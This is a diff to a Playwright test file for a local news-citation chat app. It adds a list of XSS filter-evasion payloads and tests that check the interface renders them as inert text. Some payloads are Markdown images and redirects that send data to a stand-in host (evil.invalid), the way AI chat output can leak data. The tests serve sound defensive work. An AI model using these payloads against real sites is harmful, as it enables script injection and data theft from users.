@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import base64
+import json
 import os
 import shutil
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Literal
@@ -14,6 +17,7 @@ from playwright.sync_api import Browser, ConsoleMessage, Page, Request, sync_pla
 
 from assistant.serve.protect import Protection
 from assistant.serve.run import LOCAL_NAMES
+from tests.model_server import model_server
 from tests.serving import serving
 
 pytestmark = pytest.mark.door
@@ -28,7 +32,29 @@ QUIET = [
     "--disable-sync",
 ]
 ATTACK = "<img src=x onerror=window.pwned=1>"
+# After OWASP's cheat sheet on evading XSS filters, and the ways that Markdown carries data out of a chat.
+ATTACKS = (
+    ATTACK,
+    "<script>window.pwned=1</script>",
+    "<svg/onload=window.pwned=1>",
+    "\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
+    "<a href=javascript:window.pwned=1>read on</a>",
+    "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
+    "<style>@import 'http://evil.invalid/c.css'</style>",
+    "<base href=http://evil.invalid/>",
+    "<form action=http://evil.invalid><button autofocus onfocus=window.pwned=1>",
+    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "${window.pwned=1}",
+    "</textarea><img src=x onerror=window.pwned=1>",
+    "![x](http://evil.invalid/?d=1)",
+    "![x][r]\n\n[r]: http://evil.invalid/?d=2",
+    "[read on](javascript:window.pwned=1)",
+    "<http://evil.invalid/auto>",
+    "\u202e\u2066gnp.exe\u2069 \U000e0041",
+)
 HOSTILE = f"{ATTACK} opens the dam\n\nThe dam was opened on Monday, {ATTACK} said. ![x](http://evil.invalid/?d=1)\n"
+ACTIVE = "main, aside, nav, dialog"  # where text of articles and users is shown
 
 
 @pytest.fixture(scope="module")
@@ -94,7 +120,7 @@ def test_a_question_is_answered_and_its_citation_opens_at_the_words(page: Page) 
 
 def test_a_draft_is_audited(page: Page) -> None:
     ask(page, "He wrote “Remove all sanctions against Venezuela” and “Remove all sanctions against Cuba”.", "quotes")
-    assert page.locator(".reply .label").all_inner_texts() == ["EXACT", "ALTERED"]
+    assert page.locator(".reply .verdict").all_inner_texts() == ["EXACT", "ALTERED"]
 
 
 def test_an_indexed_file_is_listed_and_hostile_names_stay_text(page: Page, tmp_path: Path) -> None:
@@ -109,10 +135,126 @@ def test_an_indexed_file_is_listed_and_hostile_names_stay_text(page: Page, tmp_p
     assert page.locator("main img, aside img").count() == 0
 
 
+def unharmed(page: Page) -> None:
+    """Nothing ran, and none of it became an element."""
+    assert page.evaluate("window.pwned") is None
+    for name in ("img", "script", "iframe", "svg", "math", "style", "base", "meta", "object", "a[href]"):
+        assert page.locator(f":is({ACTIVE}) {name}").count() == 0
+
+
+def test_a9_s4_attacks_through_title_byline_text_and_publisher_stay_text(page: Page, address: str) -> None:
+    for number, attack in enumerate(ATTACKS):
+        title = attack.replace("\n", " ")
+        told = {
+            "title": f"Weir {number} {title}",
+            "byline": title,
+            "text": f"The weir {number} was shut, {attack} said.",
+        }
+        line = json.dumps({"id": f"weir-{number}", "publisher": title, **told})
+        given = {"name": f"weir{number}.jsonl", "content_base64": base64.b64encode(line.encode()).decode()}
+        indexed = page.request.post(f"{address}/api/v1/index", data={"files": [given]})
+        assert indexed.json()["failed"] == []
+    page.reload()
+    page.wait_for_selector('body[data-ready="true"]')
+    page.fill("#article-filter", "weir")
+    assert page.locator("#articles li").count() == len(ATTACKS)
+    for number in range(len(ATTACKS)):
+        page.locator("#articles .open").nth(number).click()
+        page.locator("#drawer-text").wait_for()
+        unharmed(page)
+    ask(page, "Which weir was shut?")
+    unharmed(page)
+    ask(page, "The weir 3 was shut.", "verify")
+    unharmed(page)
+
+
+@pytest.mark.parametrize("mode", ["ask", "compare", "quotes"])
+def test_a9_s4_attacks_through_what_is_asked_stay_text(page: Page, mode: str) -> None:
+    ask(page, "“" + "” and “".join(attack.replace("\n", " ") for attack in ATTACKS) + "”", mode)
+    unharmed(page)
+
+
+def test_a9_an_attack_as_a_conversations_name_stays_text(page: Page) -> None:
+    ask(page, "Who continues talks?")
+    page.click("#rename")
+    page.fill("#asking-value", "".join(ATTACKS)[:400])
+    page.click("#asking-yes")
+    page.locator("#talk-title", has_text="onerror").wait_for()
+    unharmed(page)
+    with page.expect_download() as exported:
+        page.click("#export")
+    assert "Who continues talks?" in Path(exported.value.path()).read_text(encoding="utf-8")
+
+
+def test_conversations_are_renamed_and_deleted_and_articles_pinned_from_the_keyboard(page: Page) -> None:
+    page.keyboard.press("/")
+    page.keyboard.type("Who continues talks?")
+    page.keyboard.press("Enter")
+    page.locator(".reply").wait_for()
+    page.locator("#stop").wait_for(state="hidden")
+    page.locator(".pin").first.press("Enter")
+    page.get_by_text("Only 1 pinned").wait_for()
+    before = page.locator("#talks li").count()
+    page.locator("#delete").press("Enter")
+    page.keyboard.press("Escape")
+    assert page.locator("#talks li").count() == before
+    page.locator("#delete").press("Enter")
+    page.locator("#asking-yes").press("Enter")
+    page.locator(".welcome").wait_for()
+    assert page.locator("#talks li").count() == before - 1
+
+
+def test_a_dropped_draft_is_audited(page: Page) -> None:
+    transfer = page.evaluate_handle(
+        "() => { const data = new DataTransfer();"
+        " data.items.add(new File(['He wrote “Remove all sanctions against Venezuela”.'], 'draft.txt')); return data; }"
+    )
+    page.dispatch_event("#composer", "drop", {"dataTransfer": transfer})
+    page.locator(".reply .verdict", has_text="exact").wait_for()
+
+
+def test_what_is_refused_is_said_and_can_be_tried_again(page: Page) -> None:
+    ask(page, "What does article 77 say?")
+    assert "77" in page.inner_text(".error")
+    page.click(".error button")
+    page.locator(".error").wait_for()
+
+
 def test_a_question_full_of_markup_stays_text(page: Page) -> None:
     ask(page, f"{ATTACK} [x](javascript:alert(1))?")
     assert ATTACK in page.inner_text("#thread")
     assert page.evaluate("window.pwned") is None
+
+
+def test_a_model_is_announced_before_it_is_sent_anything_and_its_sentences_appear_as_they_pass(
+    browser: Browser, seed_home: Path, tmp_path: Path
+) -> None:
+    shutil.copytree(seed_home, tmp_path / "home")
+    released = threading.Event()
+
+    def says(prompt: str) -> Iterator[str]:
+        yield from ("The two countries are expected to continue talks in Washington later this month [1]. ",) * 2
+        released.wait(60)
+        yield "![x](http://evil.invalid/?d=3) Nobody knows [1]."
+
+    protection = Protection(hosts=LOCAL_NAMES)
+    with model_server(says) as model, serving(tmp_path / "home", protection, [model.model()]) as address:
+        page = browser.new_page()
+        page.set_default_timeout(90_000)
+        page.goto(address)
+        page.wait_for_selector('body[data-ready="true"]')
+        assert f"are sent to {model.model()}" in page.inner_text("#model-note")
+        assert model.asked == []
+        page.fill("#words", "Where are the two countries expected to continue talks?")
+        page.press("#words", "Enter")
+        page.locator(".reply p").first.wait_for()
+        assert page.is_visible("#stop")
+        released.set()
+        page.locator("#stop").wait_for(state="hidden")
+        assert "Nobody knows" not in page.locator(".reply > p").all_inner_texts()
+        page.select_option("#model", "extractive")
+        assert page.is_hidden("#model-note")
+        page.close()
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
